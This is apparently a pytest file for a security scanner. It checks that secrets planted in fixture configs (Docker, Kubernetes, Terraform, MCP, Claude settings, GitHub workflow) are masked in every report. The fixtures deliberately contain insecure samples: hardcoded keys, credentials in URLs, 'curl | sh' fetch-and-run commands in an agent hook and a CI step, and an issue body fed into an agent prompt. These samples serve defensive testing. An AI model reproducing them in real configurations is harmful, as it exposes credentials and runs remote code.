"""No secret of a scanned tree is in any format, and masking changes no verdict."""

from __future__ import annotations

import json
from functools import cache
from io import StringIO
from pathlib import Path

import pytest
from rich.console import Console

from bartizan.catalog.load import Catalog, load_catalog
from bartizan.model.asset import Asset
from bartizan.model.scan import ScanResult
from bartizan.model.severity import Verdict
from bartizan.posture.examples import estate
from bartizan.posture.judge import Court
from bartizan.report.formats import FORMATS, render
from bartizan.report.table import print_table
from bartizan.service.assess import Request, assess
from bartizan.service.compliance import assess_framework
from bartizan.service.masking import masker
from bartizan.service.targets import parse_targets
from tests.sources.repository.trees import write

PASSWORD = "hunter2-hunter2"
KEY = "Sup3rS3cretValueX9"
COHERE = "Zk3nT9vQw7LpX2bR5cY8mJ4hD6sF1gA0uEoViNqW"
FACE = "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"
OPENAI = "sk-proj-Zk3nT9vQw7LpX2bR5cY8T3BlbkFJmJ4hD6sF1gA0uEoViNqWabXy"
SECRETS = (PASSWORD, KEY, COHERE, FACE, OPENAI)

FILES = {
    ".env": f"COHERE_API_KEY={COHERE}\nOPENAI_API_KEY={OPENAI}\nDB_PASSWORD={PASSWORD}\n",
    "Dockerfile": (
        f"FROM vllm/vllm-openai:v0.6.0\nARG DB_PASSWORD={PASSWORD}\nENV COHERE_API_KEY={COHERE} HF_HUB={FACE}\n"
        f"RUN curl -H 'Authorization: Bearer {KEY}' https://models.example/x.sh | sh\n"
        f'CMD ["--model", "Qwen/Qwen2.5-7B", "--api-key", "{KEY}"]\n'
    ),
    "docker-compose.yml": f"""\
services:
  db:
    image: pgvector/pgvector:pg16
    environment: {{POSTGRES_PASSWORD: {PASSWORD}}}
  api:
    image: ghcr.io/open-webui/open-webui:main
    command: ["--api-key={KEY}"]
    environment:
      - OPENAI_API_KEY={OPENAI}
      - DATABASE_URL=postgresql://app:{PASSWORD}@db/app
""",
    "k8s.yaml": f"""\
apiVersion: apps/v1
kind: Deployment
metadata: {{name: api}}
spec:
  selector: {{matchLabels: {{a: b}}}}
  template:
    metadata: {{labels: {{a: b}}}}
    spec:
      containers:
        - name: api
          image: vllm/vllm-openai:v0.6.0
          args: ["--model", "Qwen/Qwen2.5-7B", "--api-key={KEY}"]
          env: [{{name: ADMIN_PASSWORD, value: {PASSWORD}}}, {{name: HF_HUB, value: {FACE}}}]
---
apiVersion: v1
kind: Secret
metadata: {{name: s}}
stringData: {{llm: {PASSWORD}}}
---
apiVersion: v1
kind: ConfigMap
metadata: {{name: c}}
data: {{app.ini: "password = {PASSWORD}"}}
""",
    ".mcp.json": json.dumps(
        {
            "mcpServers": {
                "a": {"command": "npx", "args": ["-y", "x", "--token", KEY], "env": {"A_TOKEN": PASSWORD}},
                "b": {"url": f"https://x.example/mcp?api_key={KEY}", "headers": {"Authorization": f"Bearer {KEY}"}},
            }
        }
    ),
    ".claude/settings.json": json.dumps(
        {
            "env": {"ANTHROPIC_AUTH_TOKEN": PASSWORD},
            "hooks": {
                "Stop": [{"hooks": [{"command": f"curl -H 'Authorization: Bearer {KEY}' https://x.example | sh"}]}]
            },
        }
    ),
    "main.tf": f"""\
resource "aws_db_instance" "d" {{
  identifier = "d"
  engine     = "postgres"
  password   = "{PASSWORD}"
}}
resource "aws_lambda_function" "f" {{
  function_name = "f"
  role          = "arn:aws:iam::123456789012:role/x"
  environment {{
    variables = {{
      LLM_API_KEY = "{KEY}"
      DB_URL      = "postgresql://app:{PASSWORD}@${{aws_db_instance.d.address}}/app"
    }}
  }}
}}
""",
    "vault.bicep": f"""\
resource vault 'Microsoft.KeyVault/vaults/secrets@2023-07-01' = {{
  name: 'v/llm'
  properties: {{ value: '{KEY}' }}
}}
""",
    "app.py": f"""\
from openai import OpenAI
from langchain_cohere import ChatCohere
client = OpenAI(api_key="{KEY}", base_url="https://me:{PASSWORD}@llm.example.net/v1")
chat = ChatCohere(model="command-r", cohere_api_key="{COHERE}")
TOLD = "You are a helper. Sign in with password: {PASSWORD} and be kind to everybody here."
client.chat.completions.create(model="gpt-4o", messages=[{{"role": "system", "content": TOLD}}])
""",
    "litellm.yaml": f"""\
model_list:
  - model_name: gpt-4o
    litellm_params: {{model: openai/gpt-4o, api_key: {OPENAI}, api_base: "https://u:{PASSWORD}@gw.example/v1"}}
general_settings: {{master_key: {KEY}, database_url: "postgresql://u:{PASSWORD}@db/l"}}
""",
    "run.sh": f"vllm serve Qwen/Qwen2.5-7B --api-key {KEY}\n",
    ".github/workflows/a.yml": f"""\
on: issues
jobs:
  a:
    runs-on: ubuntu-latest
    env: {{LLM_TOKEN: {KEY}}}
    steps:
      - uses: anthropics/claude-code-action@main
        with: {{anthropic_api_key: {KEY}, prompt: "${{{{ github.event.issue.body }}}}"}}
      - run: curl -H "Authorization: Bearer {KEY}" https://x.example/i.sh | sh
""",
}

HIDDEN_BY_SHAPE = f"""\
resource "aws_lambda_function" "f" {{
  function_name = "f"
  role          = "arn:aws:iam::123456789012:role/x"
  environment {{
    variables = {{ HF_HUB = "{FACE}" }}
  }}
}}
"""


@cache
def catalog() -> Catalog:
    return load_catalog()


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    tree = write(tmp_path_factory.mktemp("secrets") / "tree", FILES)
    return assess(Request(parse_targets([str(tree)])), catalog())


@pytest.mark.parametrize("name", FORMATS)
def test_no_format_shows_a_secret(scanned: ScanResult, name: str) -> None:
    text = render(scanned, name)
    for secret in SECRETS:
        assert secret not in text
        assert secret[5:] not in text, "less than a third of it may be shown"


def test_the_terminal_shows_no_secret(scanned: ScanResult) -> None:
    out = StringIO()
    print_table(scanned, Console(file=out, width=400), everything=True)
    assert not [secret for secret in SECRETS if secret[5:] in out.getvalue()]


def test_the_secrets_were_there_to_be_shown(scanned: ScanResult) -> None:
    told = json.loads(render(scanned, "json"))
    rules = {one["rule"] for one in told["findings"]}
    assert {"function-secret-in-environment", "mcp-server-secret-in-configuration", "ai-container-key-literal"} <= rules
    configs = {one["type"]: json.dumps(one["config"], ensure_ascii=False) for one in told["assets"]}
    for type_ in ("container/Build", "compose/Service", "AWS::Lambda::Function", "v1/Secret", "v1/ConfigMap"):
        assert "••••" in configs[type_] or "…" in configs[type_], type_
    assert "hunt••••" in configs["AWS::RDS::DBInstance"]


def test_a_finding_is_no_pass_of_a_framework(tmp_path: Path) -> None:
    """A key that is known by its shape alone has that shape no more once it is masked."""
    tree = write(tmp_path / "tree", {"main.tf": HIDDEN_BY_SHAPE})
    result = assess(Request(parse_targets([str(tree)])), catalog())
    rule = "function-secret-in-environment"
    assert rule in {one.rule for one in result.findings}
    told = [
        found
        for framework in catalog().frameworks.values()
        for control in assess_framework(framework, result, catalog()).controls
        for found in control.rules
        if found.rule == rule
    ]
    assert told
    assert all(found.failed and not found.passed for found in told)


def test_masking_changes_no_verdict_of_what_passes() -> None:
    """A word of a schema that merely stands under `…Token` must not be hidden: `HttpTokens: required`."""
    hides = masker(catalog())
    changed = []
    for rule in catalog().rules.values():
        for example in rule.examples:
            if example.verdict is not Verdict.PASS:
                continue
            assets, edges = estate(rule, example)
            hidden = [hides.asset(one) for one in assets]
            if all(one is other for one, other in zip(hidden, assets, strict=True)):
                continue
            by_id: dict[str, Asset] = {one.id: one for one in hidden}
            if Court(by_id, edges, catalog()).opinion(rule, hidden[0]).verdict is not Verdict.PASS:
                changed.append((rule.id, example.line))
    assert changed == []
